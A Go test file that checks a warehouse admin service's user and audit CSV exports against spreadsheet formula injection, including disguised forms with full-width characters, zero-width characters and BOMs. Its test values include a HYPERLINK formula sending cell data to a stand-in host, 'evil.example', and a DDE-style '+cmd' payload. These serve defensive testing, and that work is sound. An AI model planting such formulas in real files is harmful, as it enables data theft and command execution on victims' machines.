package admin

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/floorgate/floorgate/devices"
)

// csvCases are cells a spreadsheet could run as formulas (want quoted)
// and cells it shows as text (want as they are).
var csvCases = []struct {
	in     string
	quoted bool
}{
	{"=1+1", true},
	{"+1", true},
	{"-1", true},
	{"@SUM(A1)", true},
	{"\t=1", true},
	{"\r=1", true},
	{"\tplain", true},
	{"\rplain", true},
	{"＝HYPERLINK(\"http://x\")", true}, // full-width
	{"＋1", true},
	{"－1", true},
	{"＠SUM(A1)", true},
	{"﹦1", true}, // small form
	{"﹢1", true},
	{"−1", true},         // minus sign
	{"\u200B=1+1", true}, // zero-width space
	{"\uFEFF=1", true},   // BOM
	{"\u2060+1", true},   // word joiner
	{"\u202E=1", true},   // right-to-left override
	{"\u00AD@x", true},   // soft hyphen
	{" =1", true},
	{"\u00A0-1", true}, // no-break space
	{"\u3000＝1", true}, // ideographic space, full-width equals
	{"\u200B\u200C\uFEFF ＝cmd", true},
	{"\x00=1", true},
	{"\u200B\n=1", true},
	{"'=1", true}, // exported as ''=1, read back as '=1
	{"''+x", true},
	{"", false},
	{"Bob", false},
	{"1-2", false},
	{"a=1", false},
	{"'plain", false},
	{"\u200B", false},
	{"   ", false},
	{"{\"reason\":\"=x\"}", false},
	{"évelyne", false},
	{"2025-03-03T08:00:00Z", false},
	{"usr_0123", false},
}

func TestCSVCell(t *testing.T) {
	for _, tt := range csvCases {
		got := csvCell(tt.in)
		want := tt.in
		if tt.quoted {
			want = "'" + tt.in
		}
		if got != want {
			t.Errorf("csvCell(%q) = %q; want %q", tt.in, got, want)
		}
		if back := csvUnquote(got); back != tt.in {
			t.Errorf("csvUnquote(csvCell(%q)) = %q; want it back", tt.in, back)
		}
	}
}

// FuzzCSVCell: whatever the text, the cell written is the text or the
// text after one quote; it never reads as a formula once the quotes a
// spreadsheet keeps as text are taken into account (it starts with a
// quote, or nothing risky is visible first); and the import reads the
// text back exactly.
func FuzzCSVCell(f *testing.F) {
	for _, tt := range csvCases {
		f.Add(tt.in)
	}
	f.Fuzz(func(t *testing.T, v string) {
		got := csvCell(v)
		if got != v && got != "'"+v {
			t.Fatalf("csvCell(%q) = %q; want it or it after a quote", v, got)
		}
		if !strings.HasPrefix(got, "'") && csvRisky(got) {
			t.Fatalf("csvCell(%q) = %q reads as a formula", v, got)
		}
		if back := csvUnquote(got); back != v {
			t.Fatalf("csvUnquote(csvCell(%q)) = %q; want it back", v, back)
		}
	})
}

// TestCSVExportsAreSafe drives both exports over the network with values
// made to run as formulas, plain and disguised (full-width, after
// zero-width characters): every cell of both files is text, and the user
// export imports again as it was.
func TestCSVExportsAreSafe(t *testing.T) {
	e := newEnv(t, embedded())
	names := [][2]string{
		{"＝HYPERLINK(\"http://evil.example/\"&A1)", "\u200B=1+1"},
		{"+cmd|' /C calc'!A0", "＠SUM(1)"},
		{"-2+3", "\uFEFF-1"},
	}
	for i, n := range names {
		e.expect(201, "admin", "POST", "/users", CreateUserRequest{Username: "csv" + string(rune('a'+i)), FirstName: n[0], LastName: n[1], PIN: "9164", WarehouseID: e.whA.ID})
	}
	if err := e.reg.Record(context.Background(), devices.Event{Actor: "＝cmd", Action: "test.csv", Subject: "\u2060+1", WarehouseID: e.whA.ID}); err != nil {
		t.Fatalf("Record: %v", err)
	}
	for _, path := range []string{"/users/export", "/audit/export"} {
		r := e.expect(200, "admin", "GET", path, nil)
		rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
		if err != nil {
			t.Fatalf("GET %s: not CSV: %v", path, err)
		}
		for i, row := range rows {
			for j, cell := range row {
				if !strings.HasPrefix(cell, "'") && csvRisky(cell) {
					t.Errorf("GET %s row %d column %d = %q: reads as a formula", path, i, j, cell)
				}
			}
		}
		body := string(r.body)
		for _, want := range []string{"'＝HYPERLINK", "'\u200B=1+1", "'+cmd", "'＠SUM(1)", "'-2+3", "'\uFEFF-1"} {
			if path == "/users/export" && !strings.Contains(body, want) {
				t.Errorf("GET %s lacks %q", path, want)
			}
		}
		if path == "/audit/export" && (!strings.Contains(body, ",'＝cmd,") || !strings.Contains(body, ",'\u2060+1,")) {
			t.Errorf("GET %s does not quote the event's actor and subject:\n%s", path, body)
		}
	}

	// The quoted cells import back as they were.
	csvIn := importHeader + "csvx,'＝HYPERLINK(1),'\u200B=1+1,5829," + e.whA.ID + ",\n"
	if r, rep := e.importCSV("admin", "", csvIn); r.status != 200 || rep.Created != 1 {
		t.Fatalf("import = %d %+v; want 1 created", r.status, rep)
	}
	u, err := e.reg.UserByUsername(context.Background(), "csvx")
	if err != nil || u.FirstName != "＝HYPERLINK(1)" || u.LastName != "\u200B=1+1" {
		t.Errorf("imported user = %q %q, %v; want the names without the export's quote", u.FirstName, u.LastName, err)
	}
}
